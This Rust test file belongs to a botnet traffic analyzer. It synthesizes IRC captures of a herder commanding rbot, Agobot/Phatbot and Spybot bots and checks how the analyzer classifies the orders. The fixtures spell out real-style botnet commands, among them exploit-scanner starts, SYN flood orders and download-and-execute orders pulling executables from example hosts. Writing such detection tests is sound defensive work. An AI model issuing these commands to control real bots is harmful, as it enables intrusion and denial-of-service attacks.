//! Orders seen from the herder's side (issue 15, class 5) for the rbot/
//! rxbot, Agobot/Phatbot and Spybot command sets (SDBot 0.5b is in
//! `orders_both_sides.rs`): the capture holds the herder's client, which
//! orders a bot's nick or a channel by PRIVMSG; the bots' replies come
//! back relayed by the server with their `nick!user@host` prefix.
//!
//! No herder-side capture or log transcript of these families with a
//! licence that allows copying was found (searched: the Honeynet Project's
//! "Know your Enemy: Tracking Botnets" (2005) and Scan of the Month 27
//! analyses, GitHub code and issues); the sessions below are written for
//! this test from the command names and argument layouts the families'
//! published descriptions give, as `docs/analyze.md` lists them (its
//! command table is the reference). Reply texts follow rbot's `[TAG]:
//! text` form (`[MAIN]`, `[SCAN]`, `[DDoS]`, `[SYSINFO]`, `[NETINFO]`,
//! `[DOWNLOAD]`); Agobot's and Spybot's replies are plain lines, so only
//! their words and the nick they come from tie them to an order.

use botscope_behavior::analysis::{Options, Report};
use botscope_behavior::orders::{DdosKind, OrderKind};
use botscope_behavior::{pipeline, Limits};
use botscope_capture::EngineConfig;
use botscope_synth::pcap::PcapFile;
use botscope_synth::tcp::Tcp;
use std::net::Ipv4Addr;

/// One line of a herder-side session.
enum Line<'a> {
    /// The herder's client sends `PRIVMSG target :text`.
    Order(&'a str, &'a str),
    /// The server relays `:prefix PRIVMSG target :text` (or NOTICE).
    Relay(&'a str, &'a str, &'a str),
    /// As `Relay`, by NOTICE.
    Notice(&'a str, &'a str, &'a str),
}

/// Writes the herder's session (`nick` joins `channel`) and analyzes it.
fn herder_session(nick: &str, channel: &str, lines: &[Line]) -> Report {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("herder.pcap");
    let mut f = PcapFile::create(&path).unwrap();
    let (herder, server) = (Ipv4Addr::new(127, 0, 0, 2), Ipv4Addr::new(127, 0, 0, 3));
    let mut c = Tcp::new(herder, 40_002, server, 6667, 1_110_000_000_000_000, 9);
    c.handshake(&mut f);
    c.c_send(
        &mut f,
        format!("NICK {nick}\r\nUSER {nick} 0 0 :{nick}\r\n").as_bytes(),
    );
    c.t += 500_000;
    c.s_send(
        &mut f,
        format!(":irc.example 001 {nick} :Welcome {nick}\r\n").as_bytes(),
    );
    c.t += 1_000_000;
    c.c_send(&mut f, format!("JOIN {channel}\r\n").as_bytes());
    for l in lines {
        c.t += 2_000_000;
        match l {
            Line::Order(to, text) => {
                c.c_send(&mut f, format!("PRIVMSG {to} :{text}\r\n").as_bytes())
            }
            Line::Relay(from, to, text) => c.s_send(
                &mut f,
                format!(":{from} PRIVMSG {to} :{text}\r\n").as_bytes(),
            ),
            Line::Notice(from, to, text) => c.s_send(
                &mut f,
                format!(":{from} NOTICE {to} :{text}\r\n").as_bytes(),
            ),
        }
    }
    c.close(&mut f, true);
    f.finish().unwrap();
    pipeline::run(
        &[path],
        &EngineConfig::default(),
        Limits::default(),
        &Options::default(),
    )
    .expect("reads")
    .0
}

/// Every order is `sent` by the herder, the session is a herder's C&C
/// session (out of Table 9, no Fig. 3, no update matching).
fn assert_herder_session(r: &Report, nick: &str) {
    assert_eq!(r.sessions.len(), 1);
    let s = &r.sessions[0];
    assert_eq!(s.nick.as_deref(), Some(nick));
    assert_eq!(
        (s.role.as_str(), s.attribution.verdict.as_str()),
        ("herder", "cc")
    );
    assert!(s.attribution.evidence_for[0].starts_with("orders_sent: "));
    assert!(r.table9.is_empty() && r.sequences.is_empty() && r.updates.is_empty());
    assert_eq!((r.irc_sessions_cc, r.irc_sessions_unattributed), (1, 0));
    for o in &r.orders {
        assert_eq!(o.direction, "sent", "{}", o.raw);
        assert_eq!(o.sender.as_deref(), Some(nick));
    }
    assert_eq!(r.unknown_orders, 0);
}

/// (order index, reply tag, from) of every reply.
fn links(r: &Report) -> Vec<(Option<usize>, &str, &str)> {
    r.replies
        .iter()
        .map(|x| {
            (
                x.order,
                x.reply.tag.as_str(),
                x.from.as_deref().unwrap_or("-"),
            )
        })
        .collect()
}

const RX1: &str = "[USA|00412]!rx@10.20.0.7";
const RX2: &str = "[DEU|31337]!rx@10.20.0.9";

/// rbot/rxbot: the herder orders the channel; two bots answer there with
/// tagged lines, each its own prefix. A person talking in the channel is
/// neither an order nor a reply.
#[test]
fn rbot_rxbot_channel_orders_and_tagged_replies() {
    let ch = "#rx";
    let r = herder_session(
        "h3rd",
        ch,
        &[
            Line::Order(ch, ".login s3cr3t"),
            Line::Relay(RX1, ch, "[MAIN]: Password accepted."),
            Line::Relay(RX2, ch, "[MAIN]: Password accepted."),
            Line::Relay("someone!u@example.org", ch, "what is this channel?"),
            Line::Order(ch, ".si"),
            Line::Relay(RX1, ch, "[SYSINFO]: [CPU]: 1694MHz. [RAM]: 523760KB total, 301228KB free. [OS]: Windows XP (5.1, Build 2600)."),
            Line::Order(ch, ".ni"),
            Line::Relay(RX2, ch, "[NETINFO]: [Type]: LAN (LAN Connection). [IP Address]: 10.20.0.9."),
            Line::Order(ch, ".asc lsass 200 5 0 -b -r"),
            Line::Relay(RX1, ch, "[SCAN]: Exploit scanner started on 10.20.x.x:445 with a delay of 5 seconds for 0 minutes using 200 threads."),
            Line::Order(ch, ".ddos.syn 10.9.9.9 80 60"),
            Line::Notice(RX2, ch, "[DDoS]: Flooding: (10.9.9.9:80) for 60 seconds."),
            Line::Order(ch, ".dl http://files.example/x.exe c:\\x.exe 1"),
            Line::Relay(RX1, ch, "[DOWNLOAD]: Downloading URL: http://files.example/x.exe to: c:\\x.exe."),
            Line::Order(ch, ".scanstop"),
            Line::Relay(RX1, ch, "[SCAN]: Scanner stopped. (1 thread(s) stopped.)"),
            Line::Order(ch, ".rm"),
            Line::Relay(RX2, ch, "[MAIN]: Removing Bot."),
        ],
    );
    assert_herder_session(&r, "h3rd");
    let cmds: Vec<(&str, &str)> = r
        .orders
        .iter()
        .map(|o| (o.order.command.as_str(), o.order.kind.name()))
        .collect();
    assert_eq!(
        cmds,
        [
            ("login", "login"),
            ("si", "info"),
            ("ni", "info"),
            ("asc", "scan"),
            ("ddos.syn", "ddos"),
            ("dl", "download"),
            ("scanstop", "control"),
            ("rm", "control"),
        ]
    );
    // Channel orders name no one bot: identity is per reply.
    for o in &r.orders {
        assert_eq!(
            (o.target.as_deref(), o.bot_nick.as_deref()),
            (Some(ch), None)
        );
        assert!(o.bot.is_unspecified());
    }
    assert_eq!(
        r.orders[4].order.kind,
        OrderKind::Ddos {
            flood: DdosKind::SynFlood,
            target: Some("10.9.9.9".into()),
            port: Some(80),
            duration_s: Some(60),
            delay_ms: None,
            count: None,
        }
    );
    assert_eq!(r.table10.len(), 1);
    assert_eq!(
        (r.table10[0].key.as_str(), r.table10[0].count),
        ("ddos.syn", 1)
    );
    assert_eq!(
        links(&r),
        vec![
            (Some(0), "MAIN", RX1),
            (Some(0), "MAIN", RX2),
            (Some(1), "SYSINFO", RX1),
            (Some(2), "NETINFO", RX2),
            (Some(3), "SCAN", RX1),
            (Some(4), "DDOS", RX2),
            (Some(5), "DOWNLOAD", RX1),
            (Some(6), "SCAN", RX1),
            (Some(7), "MAIN", RX2),
        ]
    );
    assert_eq!(r.orders[0].replies, vec![0, 1]);
}

const AGO: &str = "wxkqbvrt!ago@10.30.0.5";

/// Agobot/Phatbot: the herder orders one bot by its nick; the bot's
/// address comes from its reply prefix; plain replies are linked by the
/// kind their words name, or by time to the order sent to that nick.
#[test]
fn agobot_phatbot_private_orders_bot_identity_from_prefix() {
    let bot = "wxkqbvrt";
    let r = herder_session(
        "ph4t",
        "#ph",
        &[
            Line::Order(bot, ".login ph4t s3cret"),
            Line::Relay(AGO, "ph4t", "Password accepted."),
            Line::Order(bot, ".bot.about"),
            Line::Relay(AGO, "ph4t", "Agobot3 0.2.1 by Ago"),
            Line::Order(bot, ".bot.sysinfo"),
            Line::Relay(AGO, "ph4t", "cpu: 2400MHz. ram: 1048048KB total, 601228KB free. os: Windows 2000 (5.0, build 2195)."),
            Line::Order(bot, ".scan.startall"),
            Line::Order(bot, ".ddos.phatsyn 10.4.4.4 600 0 6667"),
            Line::Order(bot, ".http.update http://upd.example/a.exe 7"),
            Line::Relay(AGO, "ph4t", "update: downloading http://upd.example/a.exe"),
            Line::Order(bot, ".ddos.stop"),
            Line::Order(bot, ".bot.remove"),
        ],
    );
    assert_herder_session(&r, "ph4t");
    let cmds: Vec<(&str, &str)> = r
        .orders
        .iter()
        .map(|o| (o.order.command.as_str(), o.order.kind.name()))
        .collect();
    assert_eq!(
        cmds,
        [
            ("login", "login"),
            ("bot.about", "info"),
            ("bot.sysinfo", "info"),
            ("scan.startall", "scan"),
            ("ddos.phatsyn", "ddos"),
            ("http.update", "update"),
            ("ddos.stop", "ddos"),
            ("bot.remove", "control"),
        ]
    );
    assert_eq!(
        r.orders[0].order.kind,
        OrderKind::Login {
            user: Some("ph4t".into())
        }
    );
    for o in &r.orders {
        assert_eq!(o.bot_nick.as_deref(), Some(bot));
        assert_eq!(o.bot.to_string(), "10.30.0.5");
        assert_eq!(o.bot_host.as_deref(), Some("ago@10.30.0.5"));
    }
    let OrderKind::Ddos {
        flood,
        port,
        duration_s,
        ..
    } = &r.orders[4].order.kind
    else {
        panic!()
    };
    assert_eq!(
        (flood, *port, *duration_s),
        (&DdosKind::PhatSyn, Some(6667), Some(600))
    );
    let t10: Vec<(&str, u64)> = r
        .table10
        .iter()
        .map(|x| (x.key.as_str(), x.count))
        .collect();
    assert_eq!(t10, vec![("ddos.phatsyn", 1), ("ddos.stop", 1)]);
    assert_eq!(
        links(&r),
        vec![
            (Some(0), "LOGIN", AGO),
            // No kind in "Agobot3 0.2.1 by Ago": linked by time to the
            // latest order sent to that nick.
            (Some(1), "", AGO),
            (Some(2), "SYSINFO", AGO),
            (Some(5), "DOWNLOAD", AGO),
        ]
    );
}

const SPY: &str = "spy-58213!spy@10.40.0.3";

/// Spybot: `!`-prefixed orders to the bot's nick (`!login`, `!info`,
/// `!download`, `!execute`, `!syn <host> <port> <delay> <packets>`,
/// `!scan`, `!remove`), plain replies by NOTICE.
#[test]
fn spybot_orders_and_plain_replies() {
    let bot = "spy-58213";
    let r = herder_session(
        "sp",
        "#spy",
        &[
            Line::Order(bot, "!login passw0rd"),
            Line::Notice(SPY, "sp", "logged in"),
            Line::Order(bot, "!info"),
            Line::Notice(SPY, "sp", "cpu: 800MHz ram: 261616KB os: Windows 98"),
            Line::Order(bot, "!download http://dl.example/s.exe c:\\s.exe"),
            Line::Notice(SPY, "sp", "download of http://dl.example/s.exe complete"),
            Line::Order(bot, "!execute c:\\s.exe"),
            Line::Notice(SPY, "sp", "executed c:\\s.exe"),
            Line::Order(bot, "!syn 10.2.2.2 80 10 1000"),
            Line::Order(bot, "!scan 10.40.0.1 10.40.0.254 445"),
            Line::Order(bot, "!remove"),
            Line::Notice(SPY, "sp", "removing"),
        ],
    );
    assert_herder_session(&r, "sp");
    let cmds: Vec<(&str, &str)> = r
        .orders
        .iter()
        .map(|o| (o.order.command.as_str(), o.order.kind.name()))
        .collect();
    assert_eq!(
        cmds,
        [
            ("login", "login"),
            ("info", "info"),
            ("download", "download"),
            ("execute", "execute"),
            ("syn", "ddos"),
            ("scan", "scan"),
            ("remove", "control"),
        ]
    );
    for o in &r.orders {
        assert_eq!(o.order.prefix, Some('!'));
        assert_eq!(o.bot.to_string(), "10.40.0.3");
    }
    assert_eq!(
        r.orders[4].order.kind,
        OrderKind::Ddos {
            flood: DdosKind::SynFlood,
            target: Some("10.2.2.2".into()),
            port: Some(80),
            duration_s: None,
            delay_ms: Some(10),
            count: Some(1000),
        }
    );
    assert_eq!(
        links(&r),
        vec![
            (Some(0), "LOGIN", SPY),
            (Some(1), "SYSINFO", SPY),
            (Some(2), "DOWNLOAD", SPY),
            (Some(3), "EXECUTE", SPY),
            (Some(6), "REMOVE", SPY),
        ]
    );
    assert_eq!(r.orders[2].replies, vec![2]);
}
